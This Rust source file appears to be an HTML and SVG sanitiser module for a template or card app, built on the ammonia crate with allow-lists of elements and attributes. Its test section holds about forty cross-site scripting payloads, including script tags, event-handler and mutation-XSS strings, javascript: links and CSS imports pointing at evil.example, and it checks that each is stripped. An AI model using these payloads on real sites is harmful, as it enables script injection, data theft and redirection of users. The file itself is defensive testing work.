//! The part of HTML that templates may yield: words, tables, pictures and drawings. Whatever acts, asks, leads elsewhere or comes from
//! there is taken out.

use super::complexity::{check_drawing, check_levels};
use super::picture_names::{PictureNames, SCHEME};
use super::stylesheet::{STYLED, class_of, declarations, sheet};
use ammonia::{Builder, UrlRelative};
use std::borrow::Cow;
use std::sync::{Arc, Mutex, PoisonError};

/// The elements that are kept.
const ELEMENTS: [&str; 52] = [
    "article",
    "aside",
    "b",
    "bdi",
    "br",
    "caption",
    "code",
    "col",
    "colgroup",
    "dd",
    "div",
    "dl",
    "dt",
    "em",
    "figcaption",
    "figure",
    "footer",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "header",
    "hr",
    "i",
    "img",
    "li",
    "main",
    "mark",
    "ol",
    "p",
    "pre",
    "q",
    "rp",
    "rt",
    "ruby",
    "s",
    "section",
    "small",
    "span",
    "strong",
    "sub",
    "sup",
    "table",
    "tbody",
    "td",
    "tfoot",
    "th",
    "thead",
    "tr",
    "u",
];
const MORE_ELEMENTS: [&str; 1] = ["ul"];

/// The elements of drawings in a face.
const DRAWN: [&str; 12] =
    ["svg", "g", "path", "rect", "circle", "ellipse", "line", "polyline", "polygon", "text", "tspan", "title"];

/// What a drawing in a file of its own has besides: it can name parts of itself.
const DRAWN_IN_FILES: [&str; 11] = [
    "defs",
    "linearGradient",
    "radialGradient",
    "stop",
    "clipPath",
    "mask",
    "pattern",
    "symbol",
    "use",
    "desc",
    "marker",
];

/// What is taken out with all that is in it.
const WHOLE: [&str; 14] = [
    "script",
    "style",
    "iframe",
    "object",
    "embed",
    "template",
    "noscript",
    "textarea",
    "select",
    "xmp",
    "noembed",
    "noframes",
    "foreignObject",
    "head",
];

/// The attributes that are kept on any element.
const ATTRIBUTES: [&str; 16] = [
    "class",
    "style",
    "title",
    "lang",
    "dir",
    "alt",
    "src",
    "width",
    "height",
    "colspan",
    "rowspan",
    "span",
    "start",
    "value",
    "role",
    "aria-hidden",
];

/// The attributes by which a cell or a column takes the place of several: a browser lays all of them out.
const SPANS: [&str; 3] = ["colspan", "rowspan", "span"];

/// Maximum number of cells in place of which one is.
const MOST_SPAN: usize = 100;

const DRAWN_ATTRIBUTES: [&str; 52] = [
    "viewBox",
    "preserveAspectRatio",
    "d",
    "x",
    "y",
    "x1",
    "y1",
    "x2",
    "y2",
    "cx",
    "cy",
    "r",
    "rx",
    "ry",
    "dx",
    "dy",
    "points",
    "transform",
    "fill",
    "fill-opacity",
    "fill-rule",
    "stroke",
    "stroke-width",
    "stroke-linecap",
    "stroke-linejoin",
    "stroke-dasharray",
    "stroke-opacity",
    "stroke-dashoffset",
    "stroke-miterlimit",
    "opacity",
    "font-size",
    "font-weight",
    "font-family",
    "font-style",
    "text-anchor",
    "dominant-baseline",
    "letter-spacing",
    "textLength",
    "lengthAdjust",
    "offset",
    "stop-color",
    "stop-opacity",
    "gradientUnits",
    "gradientTransform",
    "spreadMethod",
    "fx",
    "fy",
    "clip-rule",
    "color",
    "visibility",
    "display",
    "pathLength",
];

/// The attributes of drawings in files that name a part of the drawing.
const NAMING: [&str; 12] = [
    "id",
    "href",
    "clip-path",
    "mask",
    "clipPathUnits",
    "maskUnits",
    "maskContentUnits",
    "patternUnits",
    "patternContentUnits",
    "patternTransform",
    "orient",
    "refX",
];

/// What is kept of a page.
#[derive(Debug, Default)]
pub(super) struct CleanPage {
    /// The elements.
    pub(super) html: String,
    /// The stylesheet, for what lies in a face.
    pub(super) style: String,
    /// What stood in attributes `style`: an element has the name of its own in [`STYLED`].
    pub(super) inline: Vec<String>,
    /// What was left out, as it is called.
    pub(super) left_out: Vec<String>,
}

/// Cuts what a template yielded down to what a face may be.
pub(super) fn clean(text: &str, pictures: &PictureNames) -> CleanPage {
    let (rest, styles) = without_styles(text);
    let css = sheet(&styles, pictures);
    let left = Arc::new(Mutex::new(css.left_out));
    let inline = Arc::new(Mutex::new(Vec::<String>::new()));
    let (reported, asked, styled) = (left.clone(), pictures.clone(), inline.clone());
    let filter = move |element: &str, attribute: &str, value: &str| -> Option<String> {
        match attribute {
            "style" => {
                let kept = declarations(value, &asked);
                reported.lock().unwrap_or_else(PoisonError::into_inner).extend(kept.left_out);
                let mut all = styled.lock().unwrap_or_else(PoisonError::into_inner);
                if kept.style.is_empty() {
                    return None;
                }
                let name = class_of(&kept.style);
                all.push(kept.style);
                Some(name)
            }
            "src" if element == "img" => asked.address(value),
            "src" => None,
            _ if SPANS.contains(&attribute) && !is_short_number(value, MOST_SPAN) => {
                let what = format!("{attribute}={}", cut(value));
                reported.lock().unwrap_or_else(PoisonError::into_inner).push(what);
                None
            }
            _ => is_plain(value).then(|| value.to_owned()),
        }
    };
    let mut builder = Builder::empty();
    builder
        .add_tags(ELEMENTS.iter().chain(&MORE_ELEMENTS).chain(&DRAWN).copied())
        .add_generic_attributes(ATTRIBUTES.iter().chain(&DRAWN_ATTRIBUTES).copied())
        .add_clean_content_tags(WHOLE)
        // The filter lets no address stand: it has to see those from elsewhere to report them.
        .url_schemes([SCHEME.trim_end_matches(':'), "http", "https", "data"].into_iter().collect())
        .url_relative(UrlRelative::PassThrough)
        .link_rel(None)
        .attribute_filter(move |element, attribute, value| filter(element, attribute, value).map(Cow::Owned));
    // These letters may stand in a text, too: its author then reads others in their place.
    let html = builder.clean(&rest).to_string().replace(" style=\"", &format!(" {STYLED}=\""));
    let inline = std::mem::take(&mut *inline.lock().unwrap_or_else(PoisonError::into_inner));
    let mut left_out = std::mem::take(&mut *left.lock().unwrap_or_else(PoisonError::into_inner));
    left_out.extend(foreign_elements(&rest));
    CleanPage { html, style: css.style, inline, left_out }
}

/// Why a drawing is not shown.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(super) enum NoDrawing {
    /// Nothing of it is left.
    Nothing,
    /// It is too intricate; says how.
    Intricate(String),
}

/// A drawing in a file of its own without anything that acts, asks or comes from elsewhere.
pub(super) fn drawing(text: &str) -> Result<String, NoDrawing> {
    check_levels(text).map_err(NoDrawing::Intricate)?;
    let clean = kept_of_drawing(text).ok_or(NoDrawing::Nothing)?;
    check_drawing(&clean).map_err(NoDrawing::Intricate)?;
    Ok(clean)
}

fn kept_of_drawing(text: &str) -> Option<String> {
    let filter = |attribute: &str, value: &str| -> Option<String> {
        match attribute {
            "style" => Some(declarations(value, &PictureNames::default()).style).filter(|style| !style.is_empty()),
            "href" => value.starts_with('#').then(|| value.to_owned()),
            "src" | "class" => None,
            _ => (is_plain(value) || is_own(value)).then(|| value.to_owned()),
        }
    };
    let mut builder = Builder::empty();
    builder
        .add_tags(DRAWN.iter().chain(&DRAWN_IN_FILES).copied())
        .add_generic_attributes(ATTRIBUTES.iter().chain(&DRAWN_ATTRIBUTES).chain(&NAMING).copied())
        .add_clean_content_tags(WHOLE)
        .url_schemes(std::iter::empty::<&str>().collect())
        .url_relative(UrlRelative::PassThrough)
        .link_rel(None)
        .attribute_filter(move |_, attribute, value| filter(attribute, value).map(Cow::Owned));
    let clean = builder.clean(text).to_string();
    let start = clean.find("<svg")?;
    let end = clean.rfind("</svg>")? + "</svg>".len();
    let rest = clean.get(start + "<svg".len()..end)?.replace("&nbsp;", "&#160;");
    Some(format!("<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\"{rest}"))
}

/// Whether a value is a whole number up to a limit.
fn is_short_number(value: &str, most: usize) -> bool {
    value.trim().parse().is_ok_and(|number: usize| number <= most)
}

/// The beginning of a value, to be shown.
fn cut(value: &str) -> String {
    value.chars().take(12).collect()
}

/// Whether a value names nothing that is fetched.
fn is_plain(value: &str) -> bool {
    let value = value.to_ascii_lowercase();
    !["url", "image", "src(", "javascript:", "\\", "<", ">", SCHEME].iter().any(|word| value.contains(word))
}

/// Whether a value names a part of its own drawing.
fn is_own(value: &str) -> bool {
    let inner = value.trim().strip_prefix("url(#").and_then(|rest| rest.strip_suffix(')'));
    inner.is_some_and(|name| name.chars().all(|character| character.is_alphanumeric() || "-_.".contains(character)))
}

/// A page without its stylesheets, and these.
fn without_styles(text: &str) -> (String, String) {
    let lower = text.to_ascii_lowercase();
    let (mut rest, mut styles, mut at) = (String::new(), String::new(), 0);
    while let Some(start) = lower[at..].find("<style").map(|found| at + found) {
        rest.push_str(&text[at..start]);
        let Some(open) = lower[start..].find('>').map(|found| start + found + 1) else { return (rest, styles) };
        let end = lower[open..].find("</style").map_or(text.len(), |found| open + found);
        styles.push_str(&text[open..end]);
        styles.push('\n');
        at = lower[end..].find('>').map_or(text.len(), |found| end + found + 1);
    }
    rest.push_str(&text[at..]);
    (rest, styles)
}

/// The elements in a page that no face has, each once.
fn foreign_elements(text: &str) -> Vec<String> {
    let mut found: Vec<String> = Vec::new();
    for part in text.split('<').skip(1) {
        let name: String =
            part.chars().take_while(|character| character.is_ascii_alphanumeric() || *character == '-').collect();
        let is_known =
            ELEMENTS.iter().chain(&MORE_ELEMENTS).chain(&DRAWN).any(|known| known.eq_ignore_ascii_case(&name));
        if name.starts_with(|character: char| character.is_ascii_alphabetic()) && !is_known && !found.contains(&name) {
            found.push(name);
        }
    }
    found
}

#[cfg(test)]
mod tests {
    use super::super::picture_names::PictureNames;
    use super::{NoDrawing, clean, drawing};

    fn kept(text: &str) -> String {
        let kept = clean(text, &PictureNames::default());
        [kept.html, kept.style, kept.inline.concat()].concat()
    }

    #[test]
    fn words_tables_and_drawings_are_kept() {
        let face = "<h1 class=\"a\">A <b>b</b></h1><table><tbody><tr><td colspan=\"2\">1</td></tr></tbody></table>\
                    <svg viewBox=\"0 0 4 4\"><path d=\"M0 0h4\" fill=\"#123456\"></path></svg>";
        assert_eq!(kept(face), face);
        let wide = clean("<table><tr><td colspan=\"1000\" rowspan=65534>1</td></tr></table>", &PictureNames::default());
        assert!(!wide.html.contains("span") && wide.left_out.len() == 2, "{wide:?}");
        assert_eq!(kept("<img src=\"coin.png\" alt=\"coin\">"), "<img src=\"parlour-picture:0\" alt=\"coin\">");
        assert_eq!(kept("<img src=\"parlour-picture:0\">"), "<img>");
        let styled = clean(
            "<p style=\"color: red; position: fixed\">a</p><b style=\"color: red\">b</b>",
            &PictureNames::default(),
        );
        let name = super::class_of("color: red; ");
        assert_eq!(styled.html, format!("<p data-styled=\"{name}\">a</p><b data-styled=\"{name}\">b</b>"));
        assert_eq!(styled.inline, ["color: red; "; 2]);
    }

    /// What strangers would write to reach beyond their card.
    #[test]
    fn whatever_acts_asks_or_leads_elsewhere_is_taken_out() {
        for hostile in [
            "<script>alert(1)</script>",
            "<SCRIPT SRC=//evil.example/a.js></SCRIPT>",
            "<img src=x onerror=alert(1)>",
            "<img src=\"https://evil.example/a.png\">",
            "<img src=\"//evil.example/a.png\">",
            "<img src=\"../../secret.png\">",
            "<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">",
            "<img srcset=\"//evil.example/a.png 2x\">",
            "<img src=\"parlour-picture:0\">",
            "<a href=\"javascript:alert(1)\">a</a>",
            "<a href=\"//evil.example\">a</a>",
            "<form action=\"//evil.example\"><input name=a><button>a</button></form>",
            "<iframe src=\"//evil.example\"></iframe>",
            "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
            "<object data=\"//evil.example\"></object><embed src=\"//evil.example\">",
            "<link rel=stylesheet href=\"//evil.example/a.css\">",
            "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
            "<base href=\"//evil.example\">",
            "<video src=\"//evil.example\" autoplay></video><audio src=\"//evil.example\"></audio>",
            "<svg onload=alert(1)><script>alert(1)</script></svg>",
            "<svg><a xlink:href=\"javascript:alert(1)\"><text>a</text></a></svg>",
            "<svg><use href=\"//evil.example/a.svg#a\"></use><image href=\"//evil.example/a.png\"></image></svg>",
            "<svg><animate attributeName=\"href\" values=\"javascript:alert(1)\"></animate><set></set></svg>",
            "<svg><foreignObject><iframe src=\"//evil.example\"></iframe></foreignObject></svg>",
            "<svg><rect fill=\"url(//evil.example/a.svg#a)\"></rect></svg>",
            "<svg><style>@import '//evil.example/a.css';</style></svg>",
            "<style>@import '//evil.example/a.css';</style>",
            "<style>a { background: url(//evil.example/a.png) }</style>",
            "<p style=\"background: url(//evil.example/a.png)\">a</p>",
            "<p style=\"position:fixed;inset:0;z-index:99999\">a</p>",
            "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\"></math>",
            "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
            "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
            "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
            "<template><script>alert(1)</script></template>",
            "<textarea></textarea><select><option>a</option></select>",
            "<div id=\"log\" name=\"token\" onclick=\"alert(1)\" contenteditable tabindex=1 autofocus>a</div>",
            "<p hx-get=\"//evil.example\" data-hx-post=\"/undo\" hx-trigger=\"load\">a</p>",
            "</div></div></body></html><script>alert(1)</script>",
            "<!--><script>alert(1)</script>-->",
            "<dialog open>a</dialog><details open ontoggle=alert(1)>a</details>",
        ] {
            let left = kept(hostile).to_lowercase();
            for word in [
                "<script",
                "evil",
                "javascript",
                "onload",
                "onerror",
                "onclick",
                "ontoggle",
                "<iframe",
                "<form",
                "<input",
                "<button",
                "href",
                "<style",
                "<link",
                "<meta",
                "<base",
                "data:",
                "hx-",
                "fixed",
                "<video",
                "<audio",
                "<object",
                "<embed",
                "<use",
                "<animate",
                "<set",
                "foreignobject",
                "srcset",
                "id=",
                "name=",
                "contenteditable",
                "</body",
                "<math",
                "<a",
                "@import",
                "url(",
                "..",
                "<dialog",
                "<template",
                "tabindex",
                "autofocus",
            ] {
                assert!(!left.contains(word), "{hostile}: {left}");
            }
        }
    }

    #[test]
    fn what_is_opened_and_never_closed_ends_with_the_face() {
        assert_eq!(kept("<div><b>a"), "<div><b>a</b></div>");
        assert_eq!(kept("a</div></div>b"), "ab");
        let deep = "<div>".repeat(4_000);
        assert!(kept(&deep).ends_with("</div>"));
    }

    #[test]
    fn drawings_in_files_are_kept_without_what_acts() {
        let text = "<?xml version=\"1.0\"?><!DOCTYPE svg><svg xmlns=\"http://www.w3.org/2000/svg\" viewBox=\"0 0 8 8\" onload=\"alert(1)\">\
                    <defs><linearGradient id=\"a\"><stop offset=\"0\" stop-color=\"red\"/></linearGradient></defs><script>alert(1)</script>\
                    <rect width=\"8\" height=\"8\" fill=\"url(#a)\"/><image href=\"//evil.example/a.png\"/><use href=\"//evil.example#a\"/></svg>";
        let left = drawing(text).unwrap();
        assert!(left.contains("fill=\"url(#a)\"") && left.contains("<linearGradient id=\"a\">"), "{left}");
        assert!(!["script", "onload", "evil", "alert", "image"].iter().any(|word| left.contains(word)), "{left}");
        assert_eq!(drawing("<html>no drawing</html>"), Err(NoDrawing::Nothing));
        assert!(matches!(drawing(&"<svg>".repeat(12_000)), Err(NoDrawing::Intricate(_))));
    }
}
